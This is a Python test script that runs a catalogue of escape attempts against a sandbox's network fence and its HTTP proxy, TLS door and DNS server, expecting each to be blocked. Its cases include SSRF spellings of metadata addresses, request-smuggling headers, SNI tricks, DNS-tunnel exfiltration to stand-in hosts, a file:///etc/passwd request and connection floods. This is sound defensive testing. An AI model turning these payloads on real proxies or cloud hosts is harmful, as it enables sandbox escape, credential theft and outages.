#!/usr/bin/env python3
"""Attacks on the network fence of a jail, each tried for real, once.

  attacks.py --list            NAME, what is tried, what should stop it, control, policy: a row each, tabs between
  attacks.py NAME...           tries them and prints "= NAME blocked|GOT what came of it" for each

Control "direct" means that it succeeds outside of a jail, on the stage of tests/lib/net_stage.py; "-" that
there is a gate to attack only from within. Whatever must not get out carries the word evil, in bytes or
name, so that the servers outside can tell. Policy: the letter of the task it runs in (see run).
"""
import os
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from wire import (BROKER, NAMES, PROXY, WAIT_S, Got, ask, errno_name, ext, hello, lookup, must_not, question,  # noqa: E402
                  records, refused, sni, status, take, talk, tunnel)

OK = "ok.stage.test"
METADATA = ["169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192"]
METADATA6 = ["fd00:ec2::254", "fe80::a9fe:a9fe"]
table = []


def attack(name, what, fence, control="-", policy="A"):
    def add(function):
        table.append((name, what, fence, control, policy, function))
        return function
    return add


def each(tries):
    """Runs (label, function) pairs that must all raise OSError; says which errors came."""
    seen = []
    for label, function in tries:
        try:
            function()
        except OSError as e:
            seen.append(errno_name(e))
        else:
            raise Got(label)
    return ", ".join(sorted(set(seen)))


def connects(addresses, port, family=socket.AF_INET, kind=socket.SOCK_STREAM, protocol=0):
    def to(address):
        with socket.socket(family, kind, protocol) as sock:
            sock.settimeout(3)
            sock.connect((address, port))
            if kind == socket.SOCK_DGRAM:
                sock.send(b"evil")
    return [("%s port %d" % (a, port), lambda a=a: to(a)) for a in addresses]


# Without the gate

@attack("direct-tcp", "connect to public and private addresses", "no route out of the namespace", "direct")
def _(): return each(connects(["7.7.7.1", "10.0.0.1", "192.168.0.1"], 443) + connects(["7.7.7.1"], 22))


@attack("direct-udp", "send datagrams to DNS, QUIC and NTP ports outside", "no route", "direct")
def _():
    return each(sum((connects(["7.7.7.53", "8.8.8.8"], p, kind=socket.SOCK_DGRAM) for p in (53, 443, 123)), []))


@attack("direct-ipv6", "connect by IPv6, link-local with a zone too", "no route", "direct")
def _():
    return each(connects(["2606:4700::1111", "fd00:ec2::254", "64:ff9b::707:701"], 80, socket.AF_INET6) +
                connects(["2606:4700::1111"], 53, socket.AF_INET6, socket.SOCK_DGRAM))


@attack("direct-zone", "connect to a link-local address in the zone of each interface", "no interface but lo")
def _():
    def to(zone):
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as sock:
            sock.settimeout(3)
            sock.connect(("fe80::1", 80, 0, zone))
    return each([("zone %d" % z, lambda z=z: to(z)) for z in range(0, 4)])


@attack("direct-icmp", "ping, by raw and by datagram sockets", "system call filter, no route, no capability", "direct")
def _():
    def ping(kind):
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
            sock.sendto(struct.pack("!BBHHH", 8, 0, 0xf7ff, 0, 0), ("7.7.7.1", 0))
    return each([("raw", lambda: ping(socket.SOCK_RAW)), ("datagram", lambda: ping(socket.SOCK_DGRAM))])


@attack("direct-raw", "packets of our own make: IPPROTO_RAW, raw TCP, AF_PACKET", "no capability", "direct")
def _():
    def packet():
        with socket.socket(17, socket.SOCK_RAW, socket.htons(3)) as sock:  # AF_PACKET
            sock.sendto(b"evil" * 16, ("lo", 0x0800))
    return each([("IPPROTO_RAW", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).close()),
                 ("raw TCP", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 6).close()),
                 ("AF_PACKET", packet)])


@attack("direct-mptcp", "other transports: MPTCP, SCTP, DCCP, UDP-Lite", "no route, system call filter", "direct")
def _():
    return each(connects(["7.7.7.1"], 443, protocol=262) + connects(["7.7.7.1"], 443, protocol=132) +
                [("DCCP", lambda: connects(["7.7.7.1"], 443, kind=6, protocol=33)[0][1]())] +
                connects(["7.7.7.1"], 443, kind=socket.SOCK_DGRAM, protocol=136))


@attack("direct-fastopen", "data in the SYN (MSG_FASTOPEN)", "no route", "direct")
def _():
    def fast():
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
            sock.setblocking(False)
            try:
                sock.sendto(b"evil", 0x20000000, ("7.7.7.1", 80))
            except BlockingIOError:
                pass  # under way
    return each([("fastopen", fast)])


@attack("direct-multicast", "multicast and broadcast", "no route, no interface", "direct")
def _():
    def cast(address):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sock.sendto(b"evil", (address, 5353))
    return each([(a, lambda a=a: cast(a)) for a in ("224.0.0.251", "239.255.255.250", "255.255.255.255")])


@attack("direct-metadata", "the clouds' metadata addresses, directly", "no route", "direct")
def _(): return each(connects(METADATA, 80) + connects(METADATA6[:1], 80, socket.AF_INET6))


@attack("foreign-source", "speak from an address that is not ours (IP_TRANSPARENT, source route)", "no capability")
def _():
    def transparent():
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
            sock.setsockopt(0, 19, 1)  # IP_TRANSPARENT
            sock.bind(("7.7.7.1", 4000))
    def routed():
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
            sock.setsockopt(0, 4, b"\x83\x07\x04\x07\x07\x07\x01\0")  # loose source route
            sock.settimeout(3)
            sock.connect(("7.7.7.1", 80))
    return each([("IP_TRANSPARENT", transparent), ("source route", routed)])


@attack("add-a-way", "add a route and an interface by netlink", "system call filter, no capability")
def _():
    def request(kind, body):
        with socket.socket(16, socket.SOCK_RAW, 0) as sock:  # AF_NETLINK, NETLINK_ROUTE
            sock.settimeout(3)
            sock.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
            code = struct.unpack_from("=i", sock.recv(4096), 16)[0]
            if code:
                raise OSError(-code, os.strerror(-code))
    name = struct.pack("=HH", 4 + 8, 3) + b"evil0\0\0\0"
    dummy = struct.pack("=HH", 4 + 12, 18) + struct.pack("=HH", 4 + 6, 1) + b"dummy\0\0\0"
    return each([("route", lambda: request(24, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 4, 253, 1, 0))),
                 ("interface", lambda: request(16, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + name + dummy))])


@attack("host-loopback", "the host's own services on 127.0.0.1 and ::1", "a loopback of the jail's own", "direct")
def _(): return each(connects(["127.0.0.1"], 22) + connects(["::1"], 80, socket.AF_INET6))


@attack("abstract-socket", "a unix socket of the host without a file name", "a network namespace of its own", "direct")
def _():
    def meet():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.connect("\0creel-stage")
    return each([("the host's abstract socket", meet)])


@attack("path-sockets", "the runner's, sshd's, systemd's and docker's sockets by path", "none is in the jail's file tree")
def _():
    def meet(path):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.connect(path)
    return each([(p, lambda p=p: meet(p)) for p in (
        "/run/creel-runner/runner.sock", "/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket",
        "/run/systemd/resolve/io.systemd.Resolve", "/var/run/nscd/socket")])


# Names and addresses at the proxy

def both_ways(host, port=443, data=b""):
    """CONNECT and absolute-form for a host; the two statuses."""
    host = host if isinstance(host, bytes) else host.encode()
    out = []
    for raw in (b"CONNECT %s:%d HTTP/1.1\r\n\r\n" % (host, port) + data,
                b"GET http://%s/evil HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host)):
        reply = talk(PROXY, raw)
        refused(reply, "%s of %r" % (raw.split(b" ")[0].decode(), host))
        out.append(status(reply))
    return out


def denied(hosts, port=443):
    seen = set()
    for host in hosts:
        seen.update(both_ways(host, port))
    return "%d spellings, answered %s" % (len(hosts), "/".join(str(s) for s in sorted(seen)))


@attack("literal-metadata", "the metadata address in every spelling", "one grammar of host names, which has no addresses")
def _():
    return denied(METADATA + [
        "169.254.169.254.", "2852039166", "0xa9fea9fe", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376", "025177524776",
        "169.254.43518", "169.16689662", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[0:0:0:0:0:ffff:a9fe:a9fe]",
        "[fd00:ec2::254]", "[fe80::a9fe:a9fe%25lo]", "[64:ff9b::a9fe:a9fe]", "%31%36%39.254.169.254", "169%2e254%2e169%2e254",
        "169。254。169。254".encode(), "①⑥⑨.254.169.254".encode(), "169.254.169.254%00." + OK], 80)


@attack("literal-loopback", "loopback in every spelling, at the ports of the host's services", "one grammar of host names")
def _():
    return denied(["127.0.0.1", "localhost", "localhost.", "LOCALHOST", "127.1", "127.0.1", "0", "0.0.0.0", "2130706433",
                   "0x7f.1", "0x7f000001", "0177.0.0.1", "017700000001", "[::1]", "[::]", "[::ffff:127.0.0.1]",
                   "[::ffff:7f00:1]", "127。0。0。1".encode(), "①②⑦.0.0.1".encode(), "127.0.0.1.", "ip6-localhost"], 22)


@attack("literal-public", "an allowed host by its address instead of its name", "rules name hosts, never addresses")
def _(): return denied(["7.7.7.1", "117901057", "0x07070701", "[::ffff:7.7.7.1]", "7.7.1799"])


@attack("metadata-names", "the clouds' names for their metadata services", "no rule allows them: not even looked up")
def _(): return denied(["metadata.google.internal", "instance-data.ec2.internal", "metadata.azure.internal"], 80)


BAD = {"md": METADATA[0], "md2": "169.254.170.2", "ali": "100.100.100.200", "azure": "168.63.129.16", "lo": "127.0.0.1",
       "lo2": "127.64.0.1", "zero": "0.0.0.0", "ten": "10.1.2.3", "b172": "172.16.9.9", "b192": "192.168.7.7",
       "cgnat": "100.64.3.3", "bench": "198.18.5.5", "doc": "203.0.113.9", "multi": "224.0.0.251", "class-e": "240.1.1.1",
       "broad": "255.255.255.255", "lo6": "::1", "any6": "::", "ula": "fd00:ec2::254", "ll6": "fe80::1",
       "mapped": "::ffff:10.0.0.1", "nat64": "64:ff9b::a00:1", "nat64l": "64:ff9b:1::a00:1", "sixto4": "2002:a00:1::1",
       "teredo": "2001:0:a00:1::1", "compat": "::10.0.0.1", "multi6": "ff02::fb", "doc6": "2001:db8::1",
       "site6": "fec0::1", "own": "7.7.7.77"}


@attack("private-names", "allowed names that lead to %d special addresses" % len(BAD),
        "each address is checked where it is dialled")
def _():
    seen = set()
    for label in BAD:
        seen.update(both_ways(label + ".bad.test", 80))
        address = lookup(label + ".bad.test")
        if address:
            must_not(talk((address, 80), b"GET /evil HTTP/1.1\r\nHost: %s.bad.test\r\n\r\n" % label.encode()), label)
    return "%d names, answered %s" % (len(BAD), "/".join(str(s) for s in sorted(seen)))


def fetch(name):
    return talk(PROXY, b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (name.encode(), name.encode()))


@attack("rebinding", "TTL 0: the first answer is public, all later ones are loopback",
        "looked up once, and what was checked is what is dialled")
def _():
    replies = [status(fetch("re.bad.test")) for _ in range(6)]
    return "six requests, answered %s" % "/".join(map(str, replies))


@attack("mixed-answers", "one name with a public, a loopback and a private address",
        "no address is dialled unless it was checked")
def _(): return "answered %s" % "/".join(str(status(fetch("mix%d.bad.test" % i))) for i in range(3))


JUNK = [b"ok.stage.test\0.evil.test", b"evil.test\0.ok.stage.test", b"evil.test%00.ok.stage.test", b"evil.test%2eok.stage.test",
        b"ok.stage.test@evil.test", b"evil.test@ok.stage.test", b"ok.stage.test:pw@evil.test", b"evil.test/.ok.stage.test",
        b"evil.test#.ok.stage.test", b"evil.test?.ok.stage.test", b"evil.test\\.ok.stage.test", b"evil.test\t.ok.stage.test",
        b"evil.test .ok.stage.test", b"evil.test\r.ok.stage.test", b"evil.test\n.ok.stage.test", b"evil.test,ok.stage.test",
        b"evil.test;ok.stage.test", b"ok..stage.test", b".ok.stage.test", b"ok.stage.test..", b"-ok.stage.test",
        b"ok-.stage.test", b"evil" + b"a" * 60 + b".stage.test", b"a." * 127 + b"evil.test", b"", b"*", b"*.bad.test",
        b"[[::1]]", b"[ok.stage.test]", "ók.stage.test".encode(), "оk.stage.test".encode(), b"xn--evil-.stage.test\x80",
        b"ok.stage.test,", b"ok%20.stage.test", b"ok.stage.test%0d%0aHost:evil.test"]


@attack("host-grammar", "%d host names with NUL, %%00, CR, LF, userinfo and worse" % len(JUNK), "one strict grammar of host names")
def _(): return denied(JUNK)


@attack("port-grammar", "ports that are none", "one strict grammar of ports")
def _():
    seen = set()
    for port in (b"", b"0", b"65536", b"65979", b"0443", b"+443", b"-1", b" 443", b"443 ", b"4e3", b"0x1bb", b"https",
                 b"443:443", b"443.0", b"443,22", b"443\0", b"443/evil", b"4294967739"):
        reply = talk(PROXY, b"CONNECT ok.stage.test:%s HTTP/1.1\r\n\r\n" % port)
        refused(reply, "port %r" % port)
        seen.add(status(reply))
    return "18 spellings, answered %s" % "/".join(str(s) for s in sorted(seen))


@attack("suffix-tricks", "names that only look like the rules'", "labels are compared, not bytes at the end")
def _():
    return denied(["bad.test", "evilbad.test", "evil-bad.test", "bad.test.evil.test", "ok.stage.test.evil.test",
                   "evilok.stage.test", "evil.ok.stage.test", "stage.test", "ok.stage.tes", "ok.stage.testt", "x.bad.tes"])


@attack("denied-ports", "an allowed host at ports no rule names", "rules are for 80 and 443 unless they say otherwise")
def _():
    seen = set()
    for port in (22, 25, 53, 81, 444, 3128, 4100, 8080, 65535):
        reply = talk(PROXY, b"CONNECT ok.stage.test:%d HTTP/1.1\r\n\r\nevil" % port)
        refused(reply, "port %d" % port)
        seen.add(status(reply))
        reply = talk(PROXY, b"GET http://ok.stage.test:%d/evil HTTP/1.1\r\nHost: ok.stage.test:%d\r\n\r\n" % (port, port))
        refused(reply, "port %d" % port)
    address = lookup(OK)
    each(connects([address], 22) + connects([address], 8080))
    return "9 ports, answered %s; no door at others" % "/".join(str(s) for s in sorted(seen))


# TLS

def hello_denied(parts, what, pause=None):
    """Through a tunnel and at the door: neither may carry it."""
    ends = []
    sock = tunnel(OK)
    if isinstance(sock, int):
        raise Got("the allowed tunnel itself was denied: %d" % sock)
    with sock:
        sock.settimeout(WAIT_S)
        try:
            for part in parts:
                sock.sendall(part)
                if pause:
                    pause()
        except OSError:
            pass
        ends.append(take(sock))
    ends.append(talk((lookup(OK), 443), *parts, pause=pause))
    for reply in ends:
        must_not(reply, what)
    return "; ".join("alert %d" % r[6] if r[:1] == b"\x15" and len(r) > 6 else "closed" if not r else repr(r[:20]) for r in ends)


def short_pause():
    time.sleep(0.05)


@attack("sni-other", "a tunnel to an allowed host, then TLS for another", "the ClientHello's name must be the judged one")
def _(): return hello_denied(records(hello(sni(b"evil-sni.test"))), "SNI of another host")


@attack("sni-none", "TLS without a server name", "the ClientHello's name must be the judged one")
def _(): return hello_denied(records(hello(ext(43, b"\x02\x03\x04") + ext(0xabcd, b"evil"))), "no SNI")


@attack("sni-twice", "two server names, in one list and in two", "a ClientHello has one name or none that counts")
def _():
    return hello_denied(records(hello(sni(OK.encode(), b"evil-sni.test"))), "two names") + "; " + \
        hello_denied(records(hello(sni(OK.encode()) + sni(b"evil-sni.test"))), "two lists")


@attack("sni-junk", "server names with NUL, a dot too many, an address", "one grammar of host names")
def _():
    out = set()
    for name in (b"ok.stage.test\0.evil", b"ok.stage.test\0evil", b"7.7.7.1", b"", b"evil\xff.stage.test"):
        out.add(hello_denied(records(hello(sni(name) + ext(0xabcd, b"evil"))), repr(name)))
    return ", ".join(sorted(out))


@attack("sni-encrypted", "an encrypted ClientHello with an innocent outer name", "ECH is refused: it hides the name")
def _():
    return hello_denied(records(hello(sni(OK.encode()) + ext(0xfe0d, b"\0" + b"evil" * 32))), "ECH")


@attack("sni-fragments", "the other name cut over records and segments", "the hello is put together before it is judged")
def _():
    message = hello(ext(0x5555, b"x" * 600) + sni(b"evil-cut.test"))
    cuts = [1, 3, 40, len(message) - 9, len(message) - 4]
    parts = [r[i:i + 7] for r in records(message, *cuts) for i in range(0, len(r), 7)][-60:]
    whole = b"".join(records(message, *cuts))
    parts = [whole[:3], whole[3:200], whole[200:-6], whole[-6:]]
    return hello_denied(parts, "a fragmented hello", short_pause)


@attack("not-tls", "SSH, SMTP and plain HTTP at port 443", "only a ClientHello opens a connection there")
def _():
    return ", ".join(sorted({hello_denied([data], repr(data)) for data in (
        b"SSH-2.0-evil\r\n", b"EHLO evil\r\n", b"GET /evil HTTP/1.1\r\nHost: ok.stage.test\r\n\r\n", b"\x80\x2e\x01\x03\x01evil")}))


@attack("data-before-200", "data for another host behind CONNECT, before its answer", "nothing goes out before the hello was judged")
def _():
    evil = b"".join(records(hello(sni(b"evil-early.test"))))
    reply = talk(PROXY, b"CONNECT ok.stage.test:443 HTTP/1.1\r\n\r\n" + evil)
    must_not(reply, "early data")
    return "answered %d, then closed" % status(reply)


# Requests

def requests(raws, what):
    seen = set()
    for raw in raws:
        reply = talk(PROXY, raw)
        refused(reply, "%s: %r" % (what, raw[:60]))
        seen.add(status(reply))
        address = lookup(OK)
        if address and b"http://ok.stage.test" in raw:
            reply = talk((address, 80), raw.replace(b"http://ok.stage.test", b"", 1))
            refused(reply, "%s at the door: %r" % (what, raw[:60]))
    return "%d requests, answered %s" % (len(raws), "/".join(str(s) for s in sorted(seen)))


@attack("host-other", "absolute-form for an allowed host with another in Host, and the reverse", "both must be the same")
def _():
    return requests([b"GET http://ok.stage.test/ HTTP/1.1\r\nHost: evil.stage.test\r\n\r\n",
                     b"GET http://evil.stage.test/ HTTP/1.1\r\nHost: ok.stage.test\r\n\r\n",
                     b"GET http://ok.stage.test/evil HTTP/1.1\r\nHost: ok.stage.test\r\nHost: evil.stage.test\r\n\r\n",
                     b"GET http://ok.stage.test/evil HTTP/1.1\r\n\r\n",
                     b"GET http://ok.stage.test/evil HTTP/1.1\r\nHost: ok.stage.test:22\r\n\r\n",
                     b"GET http://ok.stage.test/evil HTTP/1.1\r\nHost : ok.stage.test\r\n\r\n"], "Host")


@attack("smuggling", "request bodies that two readers end differently (CL, TE, folds, bare CR and LF)", "an ambiguous head is refused")
def _():
    tail = b"GET /evil HTTP/1.1\r\nHost: evil.stage.test\r\n\r\n"
    head = b"POST http://ok.stage.test/evil HTTP/1.1\r\nHost: ok.stage.test\r\n"
    return requests([head + lines + b"\r\n\r\n0\r\n\r\n" + tail for lines in (
        b"Content-Length: 5\r\nTransfer-Encoding: chunked", b"Content-Length: 5\r\nContent-Length: 6",
        b"Content-Length: 5, 6", b"Content-Length: +5", b"Content-Length: 0x5", b"Content-Length: 5 5", b"Content-Length: -1",
        b"Content-Length:", b"Content-Length: 05", b"Content_Length: 5", b"Content-Length : 5",
        b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity",
        b"Transfer-Encoding: \x0bchunked", b"Transfer-Encoding:\r\n chunked", b"X: y\r\n Transfer-Encoding: chunked",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding\t: chunked",
        b"X: a\nTransfer-Encoding: chunked", b"X: a\rTransfer-Encoding: chunked", b"X: a\0b", b"Connection: Host",
        b"Connection: Content-Length\r\nContent-Length: 5", b": x")], "smuggling")


@attack("smuggling-chunks", "chunk sizes and extensions that hide a second request", "a chunked body is followed strictly")
def _():
    head = b"POST http://ok.stage.test/ HTTP/1.1\r\nHost: ok.stage.test\r\nTransfer-Encoding: chunked\r\n\r\n"
    tail = b"GET /evil HTTP/1.1\r\nHost: evil.stage.test\r\n\r\n"
    for body in (b"0;x=y\r\n\r\n", b"0\n\n", b"0x0\r\n\r\n", b"ffffffffffffffff0\r\n", b"-1\r\n\r\n", b" 0\r\n\r\n",
                 b"0\r\nevil: trailer\r\n\r\n", b"1\r\nab\r\n0\r\n\r\n", b"+0\r\n\r\n"):
        talk(PROXY, head + body + tail)
    return "9 bodies, cut at the first ambiguity"


@attack("pipelining", "a second request, for another host, behind an allowed one", "one request a connection")
def _():
    first = b"GET http://ok.stage.test/ HTTP/1.1\r\nHost: ok.stage.test\r\nConnection: keep-alive\r\n\r\n"
    second = b"GET http://evil.stage.test/ HTTP/1.1\r\nHost: evil.stage.test\r\n\r\n"
    inner = b"GET /evil HTTP/1.1\r\nHost: evil.stage.test\r\n\r\n"
    reply = talk(PROXY, first + second)
    count = reply.count(b"HTTP/1.1 ")
    reply += talk(PROXY, first + inner)
    talk((lookup(OK), 80), b"GET / HTTP/1.1\r\nHost: ok.stage.test\r\n\r\n" + inner)
    if count > 1 and reply.count(b"bait") > 2:
        raise Got("both were answered")
    return "%d of 2 answered" % count


@attack("connect-body", "CONNECT with a body, and CONNECT at the door", "CONNECT has no body and is the proxy's alone")
def _():
    out = talk(PROXY, b"CONNECT ok.stage.test:443 HTTP/1.1\r\nContent-Length: 4\r\n\r\nevil")
    refused(out, "CONNECT with a body")
    door = talk((lookup(OK), 80), b"CONNECT evil.stage.test:443 HTTP/1.1\r\nHost: ok.stage.test\r\n\r\nevil")
    refused(door, "CONNECT at the door")
    other = talk((lookup(OK), 80), b"GET http://evil.stage.test/ HTTP/1.1\r\nHost: evil.stage.test\r\n\r\n")
    refused(other, "another host at the door")
    return "answered %d, %d, %d" % (status(out), status(door), status(other))


@attack("other-protocols", "SOCKS 4 and 5, HTTP/2, TLS, ftp:// and https:// at the proxy", "only HTTP/1 heads are read")
def _():
    for data in (b"\x05\x01\0", b"\x04\x01\x01\xbb\x07\x07\x07\x01evil\0", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nevil",
                 b"".join(records(hello(sni(OK.encode())))), b"GET ftp://ok.stage.test/evil HTTP/1.1\r\nHost: ok.stage.test\r\n\r\n",
                 b"GET https://ok.stage.test/evil HTTP/1.1\r\nHost: ok.stage.test\r\n\r\n", b"GET file:///etc/passwd HTTP/1.1\r\n\r\n",
                 b"OPTIONS * HTTP/1.1\r\nHost: ok.stage.test\r\n\r\n", b"GET ok.stage.test/evil HTTP/1.1\r\nHost: ok.stage.test\r\n\r\n"):
        reply = talk(PROXY, data, end=True)
        refused(reply, repr(data[:20]))
        if b"root:" in reply or reply[:1] in (b"\x05",) or reply[:2] == b"\0\x5a":
            raise Got("%r was answered %r" % (data[:10], reply[:20]))
    return "9 kinds, none carried"


# Using the gate up

def works():
    if b"bait" not in fetch(OK):
        raise Got("the gate serves nobody any more")


@attack("big-heads", "a 1 MB header line, 10,000 headers, a head without end", "a head has 32 KiB and 128 lines")
def _():
    first = b"GET http://ok.stage.test/evil HTTP/1.1\r\nHost: ok.stage.test\r\n"
    seen = set()
    for rest in (b"X: " + b"a" * (1 << 20) + b"\r\n\r\n", b"X: y\r\n" * 10000 + b"\r\n", b"a" * (1 << 20)):
        reply = talk(PROXY, first + rest)
        refused(reply, "a big head")
        seen.add(status(reply))
    works()
    return "answered %s; others are served on" % "/".join(str(s) for s in sorted(seen))


@attack("slow-heads", "200 heads and hellos that come a byte at a time, for ever", "a head has a deadline")
def _():
    socks = [socket.create_connection(PROXY, WAIT_S) for _ in range(100)]
    door = lookup(OK)
    socks += [socket.create_connection((door, 443), WAIT_S) for _ in range(50)]
    works()
    alive, end = set(socks), time.monotonic() + 40
    for sock in socks:
        sock.setblocking(False)
    while alive and time.monotonic() < end:
        for sock in list(alive):
            try:
                sock.send(b"G" if sock.getpeername()[1] == 3128 else b"\x16")
                if sock.recv(100) == b"":
                    alive.discard(sock)
            except BlockingIOError:
                pass
            except OSError:
                alive.discard(sock)
        time.sleep(0.5)
    if alive:
        raise Got("%d of %d are still held after 40 s" % (len(alive), len(socks)))
    works()
    return "all %d ended by the gate, others served meanwhile" % len(socks)


@attack("idle-tunnels", "1000 connections, opened and left", "a bound on connections at once; the rest waits in the jail")
def _():
    socks = []
    for _ in range(1000):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.connect_ex(PROXY)
        socks.append(sock)
    time.sleep(1)
    for sock in socks:
        try:
            sock.send(b"CONNECT ok.stage.test:443 HTTP/1.1\r\n\r\n")
        except OSError:
            pass
    time.sleep(1)
    opened = 0
    for sock in socks:
        try:
            opened += sock.recv(12).startswith(b"HTTP/1.1 200")
        except OSError:
            pass
        sock.close()
    works()
    return "%d opened at once; works when they are gone" % opened


@attack("half-closed", "connections half closed and reset at every stage", "every end has an end")
def _():
    for _ in range(30):
        for data in (b"", b"GET", b"CONNECT ok.stage.test:443 HTTP/1.1\r\n\r\n",
                     b"GET http://ok.stage.test/ HTTP/1.1\r\nHost: ok.stage.test\r\n\r\n"):
            with socket.create_connection(PROXY, WAIT_S) as sock:
                sock.sendall(data)
                sock.shutdown(socket.SHUT_WR)
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            with socket.create_connection(PROXY, WAIT_S) as sock:
                sock.sendall(data)
                sock.shutdown(socket.SHUT_WR)
                sock.settimeout(2)
                take(sock)
    works()
    return "240 connections, all ended"


@attack("rights-flood", "descriptors by SCM_RIGHTS at the gate's sockets", "they are TCP and UDP: the kernel carries none there")
def _():
    fds = struct.pack("8i", *([0] * 8))
    for address in (PROXY, BROKER, NAMES):
        with socket.create_connection(address, WAIT_S) as sock:
            for _ in range(50):
                try:
                    sock.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
                except OSError as e:
                    seen = errno_name(e)
                    break
            else:
                seen = "ignored"
    works()
    return "on TCP: %s" % seen


@attack("steal-doors", "bind to the gate's own ports, with SO_REUSEPORT too", "they are taken, and low ports need a capability")
def _():
    def bind(address, port, kind, option):
        with socket.socket(socket.AF_INET, kind) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            if option:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            sock.bind((address, port))
            if kind == socket.SOCK_STREAM:
                sock.listen(1)
    return each([("%s:%d" % (a, p), lambda a=a, p=p, k=k, o=o: bind(a, p, k, o)) for a, p, k in (
        ("127.0.0.1", 3128, socket.SOCK_STREAM), ("0.0.0.0", 3128, socket.SOCK_STREAM), ("127.0.0.1", 4100, socket.SOCK_STREAM),
        ("127.0.0.1", 443, socket.SOCK_STREAM), ("127.64.0.1", 80, socket.SOCK_STREAM), ("127.0.0.1", 53, socket.SOCK_DGRAM))
        for o in (0, 1)])


@attack("broker-misuse", "requests, TLS and garbage at the broker's port", "it is refused while the policy has no broker")
def _():
    for data in (b"CONNECT evil.stage.test:443 HTTP/1.1\r\n\r\n", b"GET http://evil.stage.test/ HTTP/1.1\r\nHost: evil.stage.test\r\n\r\n",
                 b"POST /v1/responses HTTP/1.1\r\nHost: 127.0.0.1:4100\r\nAuthorization: Bearer evil\r\nContent-Length: 2\r\n\r\n{}",
                 os.urandom(4096), b"\0" * 70000):
        try:
            refused(talk(BROKER, data), "the broker's port")
        except OSError:
            pass
    works()
    return "nothing carried"


# The name server

@attack("dns-tunnel", "2000 questions with data in names that no rule allows", "no question leaves the host for such a name")
def _():
    for i in range(2000):
        reply = ask(question("evil%04d-%s.tunnel.test" % (i, os.urandom(20).hex())))
        if reply and (reply[3] & 15) != 3:
            raise Got("question %d was answered with code %d" % (i, reply[3] & 15))
    return "2000 answered NXDOMAIN here"


@attack("dns-suffix", "data in names below an allowed suffix", "the name server asks nobody; only a connection looks a name up")
def _():
    for i in range(200):
        ask(question("evil%d-%s.bad.test" % (i, os.urandom(20).hex())))
    return "200 answered here"


@attack("dns-types", "TXT, NULL, ANY, MX, SRV, AXFR and HTTPS for an allowed name", "addresses are answered, and nothing else")
def _():
    for kind in (16, 10, 255, 15, 33, 252, 65, 28, 5, 2, 6, 65535):
        reply = ask(question(OK, kind))
        if len(reply) > 7 and reply[7]:
            raise Got("type %d was answered with a record" % kind)
    return "12 types, no record"


@attack("dns-garbage", "questions with loops, long labels, many questions, noise", "one strict reader; it stays up")
def _():
    head = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    for data in (b"", b"\0", head, head + b"\xc0\x0c\0\1\0\1", head + b"\x3fa", head + b"\x40" + b"a" * 64 + b"\0\0\1\0\1",
                 head + b"\4evil" * 100 + b"\0\0\1\0\1", struct.pack("!HHHHHH", 7, 0x0100, 65535, 0, 0, 0) + b"\0\0\1\0\1",
                 struct.pack("!HHHHHH", 7, 0x0100, 0, 9, 9, 9), struct.pack("!HHHHHH", 7, 0x8180, 1, 1, 0, 0) + b"\0\0\1\0\1",
                 os.urandom(512), os.urandom(4096), head + b"\2ok\5stage\4test\0\0\1\0\1trailing-evil",
                 struct.pack("!HHHHHH", 7, 0x2800, 1, 0, 0, 0) + b"\2ok\5stage\4test\0\0\1\0\1"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(data, NAMES)
    if not lookup(OK):
        raise Got("the name server answers nobody any more")
    return "14 kinds; it answers on"


@attack("dns-tcp", "DNS over TCP: lengths that lie, a trickle, many at once", "the same strict reader, bounded in time")
def _():
    good = question(OK)
    for data in (b"\xff\xff" + b"a" * 70000, b"\0\0" * 1000, struct.pack("!H", len(good)) + good[:9], os.urandom(3000),
                 struct.pack("!H", 600) + good + b"evil" * 150):
        talk(NAMES, data, end=True)
    socks = [socket.create_connection(NAMES, WAIT_S) for _ in range(100)]
    for sock in socks:
        sock.sendall(b"\0")
    reply = talk(NAMES, struct.pack("!H", len(good)) + good, end=True)
    for sock in socks:
        sock.close()
    if not lookup(OK):
        raise Got("the name server answers nobody any more")
    return "answered %d bytes meanwhile; it answers on" % len(reply)


@attack("own-resolver", "another name server: by address, by TCP, and DNS over HTTPS through the gate", "no route; the gate knows its names alone")
def _():
    seen = each(connects(["8.8.8.8", "1.1.1.1", "7.7.7.53"], 53) + connects(["8.8.8.8"], 53, kind=socket.SOCK_DGRAM))
    return seen + "; " + denied(["dns.google", "cloudflare-dns.com", "one.one.one.one"])


